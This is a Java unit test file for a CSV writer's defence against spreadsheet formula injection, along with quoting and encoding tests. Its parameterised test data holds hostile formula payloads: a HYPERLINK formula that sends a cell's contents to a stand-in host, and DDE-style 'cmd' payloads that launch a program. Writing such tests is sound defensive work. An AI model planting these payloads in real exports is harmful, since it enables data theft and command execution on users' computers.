package io.github.promisekeeper.jira.web;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class CsvWriterTest {

    private static String written(CsvDownloads.Rows... rows) throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter csv = new CsvWriter(out);
        for (CsvDownloads.Rows row : rows) {
            row.writeTo(csv);
            csv.endRow();
        }
        return out.toString();
    }

    private static List<CSVRecord> parsed(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1"
            })
    void startsEveryTextThatASpreadsheetWouldRunWithAnApostrophe(String hostile) throws IOException {
        List<CSVRecord> records = parsed(written(csv -> csv.text(hostile).text("after")));

        assertThat(records).hasSize(1);
        assertThat(records.get(0).get(0)).isEqualTo("'" + hostile);
        assertThat(records.get(0).get(1)).isEqualTo("after");
    }

    @Test
    void leavesTextThatStartsOtherwiseAsItIs() throws IOException {
        assertThat(written(
                        csv -> csv.text("Acme = best").text("a-b").text(" =1").text("'quoted")))
                .isEqualTo("Acme = best,a-b, =1,'quoted\r\n");
    }

    @Test
    void quotesFieldsWithSeparatorsQuotesAndLineBreaksAsRfc4180Says() throws IOException {
        String csv = written(
                row -> row.text("Acme, Inc.")
                        .text("The \"big\" one")
                        .text("line 1\nline 2")
                        .text("cr\r\nlf"),
                row -> row.text("plain"));

        assertThat(csv)
                .isEqualTo("\"Acme, Inc.\",\"The \"\"big\"\" one\",\"line 1\nline 2\",\"cr\r\nlf\"\r\nplain\r\n");
        List<CSVRecord> records = parsed(csv);
        assertThat(records).hasSize(2);
        assertThat(records.get(0).toList())
                .containsExactly("Acme, Inc.", "The \"big\" one", "line 1\nline 2", "cr\r\nlf");
    }

    @Test
    void quotesAHostileTextAfterNeutralisingIt() throws IOException {
        assertThat(written(csv -> csv.text("=\"a\",b"))).isEqualTo("\"'=\"\"a\"\",b\"\r\n");
    }

    @Test
    void keepsAccentsAndOtherScriptsAsTheyAre() throws IOException {
        List<CSVRecord> records = parsed(written(
                csv -> csv.text("Société Générale").text("Müller & Söhne").text("日本")));

        assertThat(records.get(0).toList()).containsExactly("Société Générale", "Müller & Söhne", "日本");
    }

    /** Numbers come from typed values (an amount, a count), never from text: a negative one stays a number. */
    @Test
    void writesNumbersAndDatesAsTheyAreANegativeAmountIncluded() throws IOException {
        assertThat(written(csv -> csv.number(new BigDecimal("-250.00"))
                        .number(-3)
                        .number(new BigDecimal("1200000.50"))
                        .date(LocalDate.of(2027, 3, 1))))
                .isEqualTo("-250.00,-3,1200000.50,2027-03-01\r\n");
    }

    @Test
    void writesAbsentValuesAsEmptyFields() throws IOException {
        assertThat(written(csv ->
                        csv.text(null).number((BigDecimal) null).date(null).text("")))
                .isEqualTo(",,,\r\n");
    }

    @Test
    void neutralisesNothingInAnEmptyText() {
        assertThat(CsvWriter.neutralised("")).isEmpty();
    }
}
